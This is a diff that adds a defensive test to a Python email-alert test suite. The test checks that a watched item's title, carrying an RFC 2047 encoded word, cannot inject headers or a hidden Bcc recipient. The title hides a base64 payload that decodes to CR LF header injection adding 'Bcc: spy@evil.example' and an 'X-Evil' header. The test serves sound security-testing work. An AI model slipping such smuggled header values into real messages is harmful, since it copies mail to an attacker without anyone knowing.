@@ -109,6 +109,23 @@ def test_a_message_is_7bit_clean_with_utf8_parts_and_encoded_word_subject(setup,
     assert " · 28 Nov 2026 12:00 GMT" in msg.get_body(("plain",)).get_content()
 
 
+def test_an_encoded_word_in_a_hostile_title_adds_no_header_or_recipient(setup, clock, mailbox):
+    """The email library decodes RFC 2047 encoded words in a header value it is given: a watched item titled
+    `Hi =?utf-8?b?...?=` hiding CR LF "Bcc: …" would add headers, and a Bcc recipient to the envelope."""
+    import base64
+
+    hidden = base64.b64encode(b"x\r\nBcc: spy@evil.example\r\nX-Evil: 1").decode()
+    title = f"Sanctions =?utf-8?b?{hidden}?= =?utf-8?q?Account_suspended?="
+    app = setup(smtp(mailbox.port) + email("now", "desk@example.org"))
+    add_keyword_matches(app.store, {"a": title})
+    assert run_alerts(app).sent == 1
+    ((_, rcpts, msg),) = mailbox.received
+    assert rcpts == ("desk@example.org",), "no recipient but the configured one"
+    assert msg["Bcc"] is None and msg["X-Evil"] is None
+    assert "Account suspended" not in msg["Subject"], "the title is shown as it was written, not decoded"
+    assert "\n" not in msg["Subject"] and "utf-8?b?" in msg["Subject"]
+
+
 def test_a_daily_digest_groups_matches_into_one_message_at_its_boundary(setup, clock, mailbox):
     app = setup(smtp(mailbox.port) + email("daily", "desk@example.org", frequency="daily"))
     add_keyword_matches(app.store, {"a": "EU widens sanctions", "b": HOSTILE, "c": "Third item"})
